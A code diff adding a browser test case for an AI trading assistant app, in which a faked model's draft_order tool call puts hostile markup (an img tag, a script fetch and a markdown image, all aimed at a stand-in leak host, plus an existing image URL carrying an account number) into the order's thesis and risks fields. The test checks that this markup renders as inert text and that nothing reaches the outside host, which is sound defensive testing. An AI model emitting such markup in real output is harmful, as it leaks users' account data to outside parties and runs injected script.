@@ -70,7 +70,21 @@ describe('attacks the person sees, in Chromium', () => {
     const requests: string[] = [];
     page.on('request', (request) => requests.push(request.url()));
     const leak = outside.baseURL;
+    const account = app.sim().accounts[0]!;
+    const quote = app.backend.broker.portfolio()?.quotes.find((q) => q.symbol === 'AAPL');
+    const markup = `<img src="${leak}/thesis-image.png"> <script>fetch('${leak}/thesis-script')</script> ![x](${leak}/thesis-md.png)`;
     fake.reply(
+      toolCall('draft_order', {
+        account,
+        symbol: 'AAPL',
+        sec_type: 'STK',
+        side: 'BUY',
+        quantity: 1,
+        order_type: 'LMT',
+        limit_price: Math.round(((quote?.bid ?? 200) - 1) * 100) / 100,
+        thesis: markup,
+        risks: [markup],
+      }),
       text(
         [
           `![chart](${leak}/md-image.png?account=DU123)`,
@@ -88,6 +102,10 @@ describe('attacks the person sees, in Chromium', () => {
     await expect.poll(() => log.textContent(), { timeout: 15_000 }).toContain('md-image.png');
     // Shown as text, never as markup: nothing in the reply became an element that loads or runs.
     expect(await log.locator('img, iframe, script, svg, style, object, embed, a[href]').count()).toBe(0);
+    // The thesis and risks the model wrote into the draft are text on the card too.
+    const card = page.getByTestId('draft-card').first();
+    await expect.poll(() => card.textContent(), { timeout: 15_000 }).toContain('thesis-image.png');
+    expect(await card.locator('img, iframe, script, svg, style, object, embed, a[href]').count()).toBe(0);
     expect(requests.filter((url) => url.startsWith(leak))).toEqual([]);
     expect(outside.received).toEqual([]);
     expect(app.pageErrors).toEqual([]);
